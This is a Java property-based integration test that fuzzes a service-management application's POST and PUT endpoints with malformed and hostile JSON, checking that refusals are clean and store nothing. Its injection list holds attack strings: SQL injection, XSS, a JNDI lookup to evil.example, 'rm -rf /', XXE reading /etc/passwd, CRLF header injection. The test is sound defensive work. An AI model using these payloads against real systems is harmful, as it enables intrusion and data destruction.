package io.sopflow.reliability;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.util.RawValue;
import io.sopflow.domain.PageQuery;
import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.time.ZonedDateTime;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collection;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.sessions.JqwikSession;
import org.camunda.bpm.engine.ManagementService;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.core.DefaultParameterNameDiscoverer;
import org.springframework.core.MethodParameter;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.bind.annotation.ValueConstants;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

/**
 * Bad input, property-based: every {@code POST} and {@code PUT} endpoint under {@code /api} (found in Spring MVC's
 * mappings, so new endpoints are covered without touching this test) gets at least {@value #REQUESTS_PER_ENDPOINT} malformed or hostile
 * requests, generated with jqwik's arbitraries from a fixed seed: wrong types, missing and unknown fields, huge strings,
 * odd Unicode (lone surrogates, bidi overrides, NUL, emoji), injection strings, unknown enum values, impossible dates,
 * bodies over the size limit, broken JSON and wrong content types.
 *
 * <p>Never a 5xx; every refusal is problem+json, 400/413/415/422 ones name the field; a refused request writes no row
 * and starts no process. Hostile values that are nevertheless valid (an SQL string as an incident title) may be
 * accepted (or refused by a rule that names a related field, e.g. an end before its start); values that can never be
 * valid (an unknown enum, an impossible date, a broken body) must be refused, naming the field they were put in.
 */
class HostileInputIntegrationTest extends ReliabilityIntegrationTestBase {

  static final int REQUESTS_PER_ENDPOINT = 500;
  static final long SEED = 20261123L;

  static final List<String> INJECTIONS = List.of("'; DROP TABLE incident; --", "\" OR \"1\"=\"1", "<script>alert(1)</script>",
      "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "../../../../etc/passwd", "%00", "\\u0000",
      "$(rm -rf /)", "`id`", "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "{\"$gt\": \"\"}", "admin'--",
      "\r\nSet-Cookie: session=evil", "=HYPERLINK(\"http://evil\")", "CHG-000001' OR '1'='1");
  static final List<String> ODD_UNICODE = List.of("\u202Egnp.exe", "\u0000", "a\u0000b", "\uFEFF", "\u200B\u200B",
      "😀🔥🚀", "ﷺ", "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǫ̗", "\u0301", "𝕊𝕆ℙ", "\u00A0", "\t\n\r", "ß".repeat(50), "\uD83D", "\uDE00");
  /** Text that can never be valid: control characters other than tab and line breaks, unpaired surrogates. */
  static final Set<String> REFUSED_TEXT = Set.of("\u0000", "a\u0000b", "\uD83D", "\uDE00");
  static final List<String> IMPOSSIBLE_DATES = List.of("2026-02-30T10:00:00Z", "2026-13-01T00:00:00+01:00",
      "yesterday", "31/12/2026", "2026-12-31T25:61:00Z", "0000-00-00", "+999999999-12-31T23:59:59Z",
      "-000001-01-01T00:00:00Z", "10000-01-01T00:00:00Z",
      "2026-12-31T10:00:00+25:00", "NaN");
  static final List<String> RAW_NON_STRINGS = List.of("[]", "{}", "[\"a\",{}]", "{\"nested\":{\"deeper\":[1,2,3]}}");

  @Autowired @Qualifier("requestMappingHandlerMapping") RequestMappingHandlerMapping mappings;
  @Autowired ManagementService managementService;

  private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
  private final ObjectMapper json = new ObjectMapper();
  private final JsonNodeFactory nodes = JsonNodeFactory.instance;
  private final Random random = new Random(SEED);

  /** A request to send, and whether it can ever be valid. */
  record Attack(String description, String contentType, byte[] body, boolean mustBeRefused, String field) {}

  /** One POST or PUT endpoint and how to call it with a valid body. */
  record Endpoint(RequestMethod method, String pattern, String path, String user, ObjectNode baseline,
      Map<String, Type> fields) {

    @Override
    public String toString() {
      return method + " " + pattern;
    }
  }

  @TestFactory
  Stream<DynamicTest> everyPostAndPutEndpointRefusesHostileInputCleanly() {
    List<Endpoint> endpoints = writeEndpoints();
    assertThat(endpoints).as("POST and PUT endpoints under /api").extracting(Endpoint::toString)
        .contains("POST /api/incidents", "PUT /api/project-closures/{key}/client-contact");
    return endpoints.stream().map(endpoint -> DynamicTest.dynamicTest(endpoint + " as "
        + endpoint.user(), () -> attack(endpoint)));
  }

  private void attack(Endpoint endpoint) throws Exception {
    // jqwik's generators outside a jqwik property need a session; the fixed seed makes every run send the same requests.
    List<Attack> attacks;
    JqwikSession.start();
    try {
      attacks = attacksOn(endpoint);
    } finally {
      JqwikSession.finish();
    }
    assertThat(attacks).hasSizeGreaterThanOrEqualTo(REQUESTS_PER_ENDPOINT);
    List<String> failures = new ArrayList<>();
    Map<String, Integer> statuses = new TreeMap<>();
    String rows = quietRowCounts();
    for (Attack attack : attacks) {
      HttpResponse<String> response = send(endpoint, attack);
      int status = response.statusCode();
      statuses.merge(Integer.toString(status), 1, Integer::sum);
      String type = response.headers().firstValue("Content-Type").orElse("");
      if (status >= 500) {
        failures.add(status + " for " + attack.description() + ": " + abbreviate(response.body()));
        continue;
      }
      if (status >= 200 && status < 300) {
        if (attack.mustBeRefused()) {
          failures.add(status + " (accepted) for " + attack.description());
        }
        rows = quietRowCounts();
        continue;
      }
      if (!type.startsWith("application/problem+json")) {
        failures.add(status + " without problem+json (" + type + ") for " + attack.description());
      }
      if (Set.of(400, 413, 415, 422).contains(status)) {
        JsonNode problem = json.readTree(response.body());
        String field = problem.path("field").asText("");
        List<String> named = new ArrayList<>(List.of(field));
        problem.path("errors").forEach(error -> named.add(error.path("field").asText("")));
        if (field.isBlank()) {
          failures.add(status + " without a field for " + attack.description() + ": " + abbreviate(response.body()));
        } else if (status == 400 && attack.mustBeRefused() && attack.field() != null && named.stream().noneMatch(n -> !n.isBlank()
            && (n.startsWith(attack.field()) || attack.field().startsWith(n)))) {
          failures.add("400 names " + named + " instead of '" + attack.field() + "' for " + attack.description());
        }
      }
      String after = rowCounts();
      if (!after.equals(rows)) {
        failures.add(status + " refusal changed rows for " + attack.description() + ": " + rows + " -> " + after);
        rows = quietRowCounts();
      }
    }
    System.out.printf("%s as %s: %d requests, answers %s%n", endpoint, endpoint.user(), attacks.size(), statuses);
    assertThat(failures).as(endpoint.toString()).isEmpty();
  }

  // ------------------------------------------------------------------- smuggled values, named exactly (issue 16)

  /** The SOPs' start endpoints, whose request records the values below are smuggled into field by field. */
  static final Set<String> SOP_STARTS = Set.of("/api/incidents", "/api/changes", "/api/access-requests",
      "/api/releases", "/api/project-closures", "/api/service-requests");

  /**
   * Values that a lenient reader turns into something else, for every field of every SOP's start request: a key given
   * twice (the last an object, or the same value again), a control character (NUL, BEL, ESC, DEL, NEL; in a date, enum
   * or number also TAB), a lone surrogate, an empty string for a date/number/enum, a NUL or an unknown field inside a
   * list element. Each must answer 400 problem+json naming exactly that field (with its list index) and store nothing.
   */
  @TestFactory
  Stream<DynamicTest> everySopStartRefusesSmuggledValuesNamingTheExactField() {
    List<Endpoint> endpoints = writeEndpoints().stream()
        .filter(e -> e.method() == RequestMethod.POST && SOP_STARTS.contains(e.pattern())).toList();
    assertThat(endpoints).extracting(Endpoint::pattern).containsExactlyInAnyOrderElementsOf(SOP_STARTS);
    return endpoints.stream().map(endpoint -> DynamicTest.dynamicTest("POST " + endpoint.pattern(),
        () -> smuggle(endpoint)));
  }

  private void smuggle(Endpoint endpoint) throws Exception {
    List<Attack> attacks = smugglingAttacks(endpoint);
    List<String> failures = new ArrayList<>();
    String rows = quietRowCounts();
    for (Attack attack : attacks) {
      HttpResponse<String> response = send(endpoint, attack);
      String type = response.headers().firstValue("Content-Type").orElse("");
      String field;
      try {
        field = json.readTree(response.body()).path("field").asText("");
      } catch (java.io.IOException e) {
        field = "";
      }
      if (response.statusCode() != 400 || !type.startsWith("application/problem+json") || !field.equals(attack.field())) {
        failures.add(response.statusCode() + " naming '" + field + "' instead of 400 naming '" + attack.field()
            + "' for " + attack.description() + ": " + abbreviate(response.body()));
      }
      String after = rowCounts();
      if (!after.equals(rows)) {
        failures.add("stored something for " + attack.description() + ": " + rows + " -> " + after);
        rows = quietRowCounts();
      }
    }
    System.out.printf("POST %s: %d smuggled values, %d not refused as they should be%n", endpoint.pattern(),
        attacks.size(), failures.size());
    assertThat(failures).as("POST " + endpoint.pattern()).isEmpty();
  }

  private List<Attack> smugglingAttacks(Endpoint endpoint) {
    ObjectNode base = endpoint.baseline();
    List<Attack> attacks = new ArrayList<>();
    for (Map.Entry<String, Type> component : endpoint.fields().entrySet()) {
      String name = component.getKey();
      Type type = component.getValue();
      Class<?> raw = rawClass(type);
      JsonNode value = base.has(name) ? base.get(name) : sample(type);
      attacks.add(duplicated(base, name, value, "{\"nested\":{\"x\":1}}", "an object"));
      attacks.add(duplicated(base, name, value, value.toString(), "the same value"));
      if (raw == String.class) {
        String text = value.asText("x");
        for (String control : List.of("\u0000", "\u0007", "\u001b", "\u007f", "\u0085")) {
          attacks.add(exactly(base, name, json(text + control), name, "text with " + escape(control)));
        }
        attacks.add(exactly(base, name, json("\u0000" + text), name, "text starting with NUL"));
        attacks.add(exactly(base, name, "\"\\ud800\"", name, "a lone high surrogate"));
        attacks.add(exactly(base, name, "\"" + text + "\\udc00\"", name, "a trailing lone low surrogate"));
      } else if (raw.isEnum() || isTemporal(raw) || raw == java.time.Duration.class
          || Number.class.isAssignableFrom(raw)) {
        String text = value.isTextual() ? value.asText() : value.toString();
        for (String control : List.of("\u0000", "\t", "\n", "\u001f")) {
          attacks.add(exactly(base, name, json(text + control), name, "value with " + escape(control)));
        }
        attacks.add(exactly(base, name, json(""), name, "an empty string"));
      } else if (Collection.class.isAssignableFrom(raw) && type instanceof ParameterizedType list) {
        Class<?> element = rawClass(list.getActualTypeArguments()[0]);
        if (element == String.class) {
          attacks.add(exactly(base, name, "[\"ok\",\"x\\u0000\"]", name + "[1]", "a NUL in the second element"));
          attacks.add(exactly(base, name, "[\"\\ud800\"]", name + "[0]", "a lone surrogate in an element"));
        } else if (element.isRecord() && value.isArray() && value.size() > 0) {
          ObjectNode first = (ObjectNode) value.get(0).deepCopy();
          first.put("foo", 1);
          attacks.add(exactly(base, name, "[" + first + "]", name + "[0].foo", "an unknown field in an element"));
          for (RecordComponent inner : element.getRecordComponents()) {
            if (inner.getType() == String.class) {
              ObjectNode nul = (ObjectNode) value.get(0).deepCopy();
              nul.put(inner.getName(), "x\u0000");
              attacks.add(exactly(base, name, "[" + nul + "]", name + "[0]." + inner.getName(),
                  "a NUL in an element's " + inner.getName()));
              String dup = value.get(0).toString();
              dup = dup.substring(0, dup.length() - 1) + ",\"" + inner.getName() + "\":{}}";
              attacks.add(exactly(base, name, "[" + dup + "]", name + "[0]." + inner.getName(),
                  "an element's " + inner.getName() + " given twice"));
            }
          }
        }
      }
    }
    return attacks;
  }

  /** The body with {@code name} given once more at the end, the second time as {@code second}. */
  private Attack duplicated(ObjectNode base, String name, JsonNode first, String second, String what) {
    ObjectNode body = base.deepCopy();
    body.set(name, first);
    String text = body.toString();
    text = text.substring(0, text.length() - 1) + ",\"" + name + "\":" + second + "}";
    return new Attack(name + " given twice, then " + what, "application/json", bytes(text), true, name);
  }

  private Attack exactly(ObjectNode base, String name, String rawJson, String field, String what) {
    ObjectNode body = base.deepCopy();
    body.putRawValue(name, new RawValue(rawJson));
    return new Attack(name + ": " + what, "application/json", bytes(body.toString()), true, field);
  }

  // --------------------------------------------------------------------------------------------- the attacks

  private List<Attack> attacksOn(Endpoint endpoint) {
    List<Attack> attacks = new ArrayList<>();
    ObjectNode base = endpoint.baseline();
    // Whole-body attacks.
    for (String raw : List.of("", "null", "[]", "{", "{\"a\":", "{}}", "{} {}", "\"text\"", "42", "true",
        "{\"" + "k".repeat(70_000) + "\":1}", "[".repeat(5000) + "]".repeat(5000),
        "{\"x\":" + "[".repeat(3000) + "]".repeat(3000) + "}", "{\"n\":1e400}", "\u0000\u0001\u0002", "<xml/>")) {
      attacks.add(new Attack("body " + abbreviate(raw), "application/json", bytes(raw), true, null));
    }
    attacks.add(new Attack("body of 1.2 MB", "application/json",
        bytes("{\"title\":\"" + "x".repeat(1_200_000) + "\"}"), true, "body"));
    attacks.add(new Attack("invalid UTF-8 bytes", "application/json", new byte[] {'{', '"', 'a', '"', ':', '"',
        (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'}, true, null));
    for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=zz", "application/octet-stream", "text/html", "application/json-patch",
        "image/png", "nonsense")) {
      attacks.add(new Attack("valid JSON as " + type, type, bytes(base.toString()), true, "Content-Type"));
    }
    // Unknown and duplicated fields.
    for (String unknown : List.of("isAdmin", "__proto__", "constructor", "status", "processInstanceId", "id",
        "number", "reporter", "createdAt", "approved")) {
      if (!endpoint.fields().containsKey(unknown)) {
        ObjectNode body = base.deepCopy();
        body.put(unknown, true);
        attacks.add(new Attack("unknown field " + unknown, "application/json", bytes(body.toString()), true, unknown));
      }
    }
    // Field by field.
    for (Map.Entry<String, Type> field : endpoint.fields().entrySet()) {
      String name = field.getKey();
      Class<?> raw = rawClass(field.getValue());
      for (String value : RAW_NON_STRINGS) {
        boolean collection = Collection.class.isAssignableFrom(raw) || raw.isRecord();
        attacks.add(withRaw(base, name, value, !collection, "structured value " + value));
      }
      attacks.add(without(base, name));
      attacks.add(withRaw(base, name, "null", false, "null"));
      if (raw.isEnum()) {
        for (String value : List.of("EXTREME", "high", "", "UNKNOWN", "0", "1", "null", "\u0000")) {
          attacks.add(withRaw(base, name, json(value), true, "unknown enum value '" + escape(value) + "'"));
        }
        // Jackson trims surrounding blanks of enum names: accepted, and harmless. Control characters are refused
        // (Jackson would trim them too, and "HIGH\u0000" was stored as HIGH).
        for (String value : List.of(" HIGH", "HIGH ")) {
          attacks.add(withRaw(base, name, json(value), false, "padded enum value '" + value + "'"));
        }
        for (String value : List.of("HIGH\u0000", "\u0000HIGH", "HIGH\t", "HIGH\u0085")) {
          attacks.add(withRaw(base, name, json(value), true, "enum value with a control character '" + escape(value) + "'"));
        }
        attacks.add(withRaw(base, name, "99", true, "enum as number"));
      }
      if (isTemporal(raw)) {
        for (String value : IMPOSSIBLE_DATES) {
          attacks.add(withRaw(base, name, json(value), true, "impossible date '" + value + "'"));
        }
        attacks.add(withRaw(base, name, "true", true, "date as boolean"));
        for (String value : List.of("1970-01-01T00:00:00Z", "2026-12-31", "9999-12-31T23:59:59Z")) {
          attacks.add(withRaw(base, name, json(value), false, "odd date '" + value + "'"));
        }
        for (String value : List.of("", "\u0000", "2026-12-31T10:00:00Z\u0000", "\u00002026-12-31T10:00:00Z")) {
          attacks.add(withRaw(base, name, json(value), true, "date '" + escape(value) + "' (empty or with NUL)"));
        }
      }
      if (Number.class.isAssignableFrom(raw) || raw.isPrimitive() && raw != boolean.class) {
        for (String value : List.of("\"lots\"", "true", "\"\"", "\"1e999999\"", "\"NaN\"", "\"-Infinity\"")) {
          attacks.add(withRaw(base, name, value, true, "number as " + value));
        }
        for (String value : List.of("-1", "0", "1e400", "-1e400", "99999999999999999999999999999999999999",
            "0.000000000000000000001")) {
          attacks.add(withRaw(base, name, value, false, "extreme number " + value));
        }
      }
      if (raw == String.class) {
        attacks.add(withRaw(base, name, json("x".repeat(100_000)), false, "string of 100,000 characters"));
        attacks.add(withRaw(base, name, json(""), false, "empty string"));
        attacks.add(withRaw(base, name, json("   "), false, "blank string"));
        attacks.add(withRaw(base, name, "\"\\ud800\"", true, "lone surrogate escape"));
        for (String value : INJECTIONS) {
          attacks.add(withRaw(base, name, json(value), false, "injection " + value));
        }
        for (String value : ODD_UNICODE) {
          attacks.add(withRaw(base, name, json(value), REFUSED_TEXT.contains(value), "odd Unicode " + escape(value)));
        }
      }
    }
    // Random combinations up to the target: a random field gets a random hostile value (jqwik arbitraries).
    List<String> names = new ArrayList<>(endpoint.fields().keySet());
    Arbitrary<String> anyText = Arbitraries.strings().all().ofMaxLength(300);
    Arbitrary<String> hostile = Arbitraries.oneOf(Arbitraries.of(INJECTIONS), Arbitraries.of(ODD_UNICODE),
        Arbitraries.of(IMPOSSIBLE_DATES), anyText, Arbitraries.strings().ofMinLength(5_000).ofMaxLength(20_000));
    Arbitrary<String> rawValue = Arbitraries.oneOf(hostile.map(HostileInputIntegrationTest::json),
        Arbitraries.of(RAW_NON_STRINGS), Arbitraries.integers().map(String::valueOf),
        Arbitraries.of("true", "false", "null", "1e400", "\"\\ud800\\udc00\\udfff\""));
    var generator = rawValue.generator(1000);
    while (attacks.size() < REQUESTS_PER_ENDPOINT) {
      if (names.isEmpty()) {
        String value = generator.next(random).value();
        attacks.add(new Attack("raw body " + abbreviate(value), "application/json", bytes(value), false, null));
        continue;
      }
      ObjectNode body = base.deepCopy();
      int changes = 1 + random.nextInt(Math.min(3, names.size()));
      StringBuilder what = new StringBuilder("random:");
      for (int c = 0; c < changes; c++) {
        String name = names.get(random.nextInt(names.size()));
        String value = generator.next(random).value();
        body.putRawValue(name, new RawValue(value));
        what.append(' ').append(name).append('=').append(abbreviate(escape(value)));
      }
      attacks.add(new Attack(what.toString(), "application/json", bytes(body.toString()), false, null));
    }
    return attacks;
  }

  private Attack withRaw(ObjectNode base, String field, String rawJson, boolean mustBeRefused, String what) {
    ObjectNode body = base.deepCopy();
    body.putRawValue(field, new RawValue(rawJson));
    return new Attack(field + ": " + abbreviate(escape(what)), "application/json", bytes(body.toString()),
        mustBeRefused, field);
  }

  private Attack without(ObjectNode base, String field) {
    ObjectNode body = base.deepCopy();
    body.remove(field);
    return new Attack("missing " + field, "application/json", bytes(body.toString()), false, field);
  }

  // --------------------------------------------------------------------------------------------- the endpoints

  /**
   * Every POST and PUT mapping under /api, with a caller and a valid body (DESIGN.md's examples, else made from the
   * type).
   */
  private List<Endpoint> writeEndpoints() {
    String incident = createIncident();
    String securityIncident = createSecurityIncident();
    String closure = createProjectClosure();
    List<Endpoint> endpoints = new ArrayList<>();
    for (Map.Entry<RequestMappingInfo, HandlerMethod> mapping : mappings.getHandlerMethods().entrySet()) {
      RequestMappingInfo info = mapping.getKey();
      Set<RequestMethod> methods = info.getMethodsCondition().getMethods();
      RequestMethod method = methods.contains(RequestMethod.POST) ? RequestMethod.POST
          : methods.contains(RequestMethod.PUT) ? RequestMethod.PUT : null;
      if (method == null) {
        continue;
      }
      for (String pattern : info.getPatternValues()) {
        if (!pattern.startsWith("/api/")) {
          continue;
        }
        Type bodyType = null;
        for (MethodParameter parameter : mapping.getValue().getMethodParameters()) {
          if (parameter.hasParameterAnnotation(RequestBody.class)) {
            bodyType = parameter.getGenericParameterType();
          }
        }
        String path = pattern.replace("/api/incidents/{number}", "/api/incidents/" + incident)
            .replace("/api/security-incidents/{number}", "/api/security-incidents/" + securityIncident)
            .replace("/api/sops/{key}/", "/api/sops/IncidentEscalationProcess/")
            .replace("/api/project-closures/{key}/", "/api/project-closures/" + closure + "/")
            .replaceAll("\\{[^}]+}", "1");
        Map<String, Type> fields = new LinkedHashMap<>();
        ObjectNode baseline = nodes.objectNode();
        if (bodyType != null && rawClass(bodyType).isRecord()) {
          for (RecordComponent component : rawClass(bodyType).getRecordComponents()) {
            fields.put(component.getName(), component.getGenericType());
          }
          baseline = (ObjectNode) sample(bodyType);
        }
        ObjectNode curated = curatedBaseline(pattern);
        if (curated != null) {
          baseline = curated;
        }
        endpoints.add(new Endpoint(method, pattern, path, userFor(pattern), baseline, fields));
      }
    }
    endpoints.sort((a, b) -> a.toString().compareTo(b.toString()));
    return endpoints;
  }

  private ObjectNode curatedBaseline(String pattern) {
    String in7 = OffsetDateTime.now().plusDays(7).truncatedTo(ChronoUnit.SECONDS).toString();
    String in8 = OffsetDateTime.now().plusDays(8).truncatedTo(ChronoUnit.SECONDS).toString();
    String body = switch (pattern) {
      case "/api/incidents" -> "{\"title\":\"Printer jammed\",\"description\":\"Paper stuck\",\"impact\":\"LOW\","
          + "\"urgency\":\"LOW\",\"category\":\"hardware\",\"configurationItem\":\"PRN-1\"}";
      case "/api/incidents/{number}/comments" -> "{\"text\":\"Any news?\"}";
      case "/api/changes" -> "{\"title\":\"Upgrade VPN\",\"description\":\"New firmware\",\"type\":\"NORMAL\","
          + "\"affectedServices\":[\"vpn\"],\"implementationPlan\":\"flash\",\"backoutPlan\":\"reflash\","
          + "\"testEvidence\":\"lab\",\"plannedStart\":\"" + in7 + "\",\"plannedEnd\":\"" + in8 + "\",\"implementer\":\"l2\"}";
      case "/api/access-requests" -> "{\"beneficiary\":\"desk\",\"resource\":\"finance\",\"justification\":\"month end\","
          + "\"validUntil\":\"" + OffsetDateTime.now().plusDays(30).truncatedTo(ChronoUnit.SECONDS) + "\"}";
      case "/api/access-resources" -> "{\"key\":\"fuzz-" + Math.abs(random.nextInt(100000)) + "\",\"name\":\"Fuzz\","
          + "\"ownerGroup\":\"security-officers\",\"riskLevel\":\"LOW\",\"maxGrantDuration\":\"P30D\","
          + "\"connectorType\":\"identity-group\"}";
      case "/api/releases" -> "{\"name\":\"Portal\",\"version\":\"1.2.3\",\"environment\":\"production\","
          + "\"changeNumber\":\"CHG-000001\",\"windowStart\":\"" + in7 + "\",\"windowEnd\":\"" + in8 + "\","
          + "\"rollbackPlan\":\"redeploy 1.2.2\"}";
      case "/api/project-closures" -> "{\"projectCode\":\"FUZZ" + Math.abs(random.nextInt(100000)) + "\",\"name\":\"Fuzz\","
          + "\"projectManager\":\"pm\",\"sponsor\":\"manager\",\"clientContact\":\"cab2\","
          + "\"deliverables\":[{\"name\":\"Site\",\"acceptanceCriteria\":\"live\"}],\"budget\":100000}";
      // Accepted once (cab2 -> cab3); the same again changes nothing.
      case "/api/project-closures/{key}/client-contact" -> "{\"clientContact\":\"cab3\",\"reason\":\"cab2 left\"}";
      case "/api/problems" -> "{\"title\":\"VPN drops nightly\",\"description\":\"Sessions drop at 02:00\","
          + "\"configurationItem\":\"vpn-gw-1\",\"incidentNumbers\":[]}";
      // desk delegates to fin a week ahead: accepted once, later valid ones overlap it (400 naming "from").
      case "/api/delegations" -> "{\"delegate\":\"fin\",\"from\":\"" + in7 + "\",\"until\":\"" + in8
          + "\",\"groups\":[\"finance\"]}";
      case "/api/reports/sla/runs" -> "{\"month\":\"2020-01\"}";
      case "/api/security-incidents" -> "{\"title\":\"Phishing mail\",\"description\":\"Link to a fake login page\","
          + "\"category\":\"PHISHING\",\"detectedAt\":\"" + OffsetDateTime.now().minusHours(1)
          .truncatedTo(ChronoUnit.SECONDS) + "\",\"personalDataInvolved\":false,\"affectedAccounts\":[\"desk\"],"
          + "\"affectedAssets\":[\"mail-gw\"]}";
      case "/api/security-incidents/{number}/evidence" -> "{\"note\":\"Mail headers saved\"}";
      // Version 1 to itself: every valid variation is refused (toVersion), none migrates anything.
      case "/api/sops/{key}/migrations" -> "{\"fromVersion\":1,\"toVersion\":1,\"dryRun\":true}";
      case "/api/service-requests" -> "{\"item\":\"laptop\",\"requestedFor\":\"desk\",\"justification\":\"new hire\","
          + "\"details\":{\"model\":\"standard\",\"deliveryAddress\":\"Room 1.01\"}}";
      case "/api/service-catalogue" -> "{\"key\":\"fuzz-" + Math.abs(random.nextInt(100000)) + "\",\"name\":\"Fuzz\","
          + "\"description\":\"probe\",\"approval\":\"MANAGER\",\"ownerGroup\":\"service-desk\","
          + "\"fulfilmentGroup\":\"support-l2\",\"fulfilmentTarget\":\"P2D\",\"fulfilmentCalendar\":\"24x7\","
          + "\"requiredDetails\":[\"model\"],\"checklist\":[\"Done\"]}";
      default -> null;
    };
    if (body == null) {
      return null;
    }
    try {
      return (ObjectNode) json.readTree(body);
    } catch (java.io.IOException e) {
      throw new IllegalStateException(e);
    }
  }

  private static String userFor(String pattern) {
    if (pattern.equals("/api/project-closures/{key}/client-contact")) {
      return "admin"; // may replace it, so the attacks reach the contact's validation, not only the 403
    }
    if (pattern.startsWith("/api/changes")) {
      return "chgman";
    }
    if (pattern.startsWith("/api/releases")) {
      return "relman";
    }
    if (pattern.startsWith("/api/project-closures")) {
      return "pm";
    }
    if (pattern.startsWith("/api/access-resources")) {
      return "admin";
    }
    if (pattern.startsWith("/api/security-incidents/")) {
      return "secoff"; // may add evidence, so the attacks reach the note's validation, not only the 403
    }
    if (pattern.startsWith("/api/problems")) {
      return "probman"; // may raise one, so the attacks reach the validation, not only the 403
    }
    if (pattern.startsWith("/api/service-catalogue")) {
      return "owner";
    }
    if (pattern.startsWith("/api/sops/")) {
      return "owner"; // may migrate SOP instances, so the attacks reach the versions' validation, not only the 403
    }
    if (pattern.startsWith("/api/backup-verifications")) {
      return "l2"; // may start one, so the attacks reach the set's validation, not only the 403
    }
    if (pattern.startsWith("/api/reports")) {
      return "incman"; // may start a month's SLA report, so the attacks reach the month's validation
    }
    return "desk";
  }

  /** A plausible value of the given type, for endpoints without an example in DESIGN.md. */
  private JsonNode sample(Type type) {
    Class<?> raw = rawClass(type);
    if (raw == String.class) {
      return nodes.textNode("probe");
    }
    if (raw.isEnum()) {
      return nodes.textNode(((Enum<?>) raw.getEnumConstants()[0]).name());
    }
    if (raw == Instant.class || raw == OffsetDateTime.class || raw == ZonedDateTime.class) {
      return nodes.textNode(OffsetDateTime.now().plusDays(7).truncatedTo(ChronoUnit.SECONDS).toString());
    }
    if (raw == LocalDate.class) {
      return nodes.textNode(LocalDate.now().plusDays(7).toString());
    }
    if (raw == Boolean.class || raw == boolean.class) {
      return nodes.booleanNode(true);
    }
    if (raw == BigDecimal.class || Number.class.isAssignableFrom(raw) || raw.isPrimitive()) {
      return nodes.numberNode(1);
    }
    if (Collection.class.isAssignableFrom(raw)) {
      ArrayNode array = nodes.arrayNode();
      if (type instanceof ParameterizedType parameterized) {
        array.add(sample(parameterized.getActualTypeArguments()[0]));
      }
      return array;
    }
    if (raw.isRecord()) {
      ObjectNode object = nodes.objectNode();
      for (RecordComponent component : raw.getRecordComponents()) {
        object.set(component.getName(), sample(component.getGenericType()));
      }
      return object;
    }
    return nodes.textNode("probe");
  }

  // --------------------------------------------------------------------------------------------- plumbing

  private String createIncident() {
    JsonNode created = as("desk").post().uri("/api/incidents")
        .contentType(org.springframework.http.MediaType.APPLICATION_JSON)
        .body(Map.of("title", "Fuzz target", "description", "comments go here", "impact", "LOW", "urgency", "LOW",
            "category", "probe"))
        .retrieve().body(JsonNode.class);
    return created.path("number").asText();
  }

  /** A closure requested by pm, client contact cab2, for the endpoints of one closure. */
  private String createProjectClosure() {
    return as("pm").post().uri("/api/project-closures").contentType(org.springframework.http.MediaType.APPLICATION_JSON)
        .body(Map.of("projectCode", "FUZZ-TARGET-" + Math.abs(random.nextInt(100000)), "name", "Fuzz target",
            "projectManager", "pm", "sponsor", "manager", "clientContact", "cab2", "budget", 1000,
            "deliverables", List.of(Map.of("name", "Site", "acceptanceCriteria", "live"))))
        .retrieve().body(JsonNode.class).path("key").asText();
  }

  private String createSecurityIncident() {
    return as("desk").post().uri("/api/security-incidents").contentType(org.springframework.http.MediaType.APPLICATION_JSON)
        .body(Map.of("title", "Fuzz target", "description", "evidence goes here", "category", "OTHER",
            "detectedAt", OffsetDateTime.now().minusHours(1).truncatedTo(ChronoUnit.SECONDS).toString()))
        .retrieve().body(JsonNode.class).path("number").asText();
  }

  private HttpResponse<String> send(Endpoint endpoint, Attack attack) throws Exception {
    HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + endpoint.path()))
        .timeout(Duration.ofSeconds(30))
        .header("Authorization", "Basic " + Base64.getEncoder().encodeToString((endpoint.user() + ":" + PASSWORD)
            .getBytes(StandardCharsets.UTF_8)))
        .header("Accept", "application/json, application/problem+json")
        .method(endpoint.method().name(), HttpRequest.BodyPublishers.ofByteArray(attack.body()));
    if (attack.contentType() != null) {
      request.header("Content-Type", attack.contentType());
    }
    return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
  }

  /** Row counts once jobs started by an accepted request have run, so that they do not move the figures later. */
  private String quietRowCounts() {
    await().atMost(Duration.ofSeconds(20)).pollInterval(Duration.ofMillis(50))
        .until(() -> managementService.createJobQuery().executable().count() == 0);
    return rowCounts();
  }

  private static Class<?> rawClass(Type type) {
    if (type instanceof Class<?> c) {
      return c;
    }
    if (type instanceof ParameterizedType p) {
      return (Class<?>) p.getRawType();
    }
    return Object.class;
  }

  private static boolean isTemporal(Class<?> raw) {
    return raw == Instant.class || raw == OffsetDateTime.class || raw == ZonedDateTime.class || raw == LocalDate.class
        || raw == java.time.LocalDateTime.class;
  }

  static String json(String value) {
    // Jackson writes a lone surrogate as it is, and String.getBytes(UTF_8) then sends "?" instead: escape surrogates.
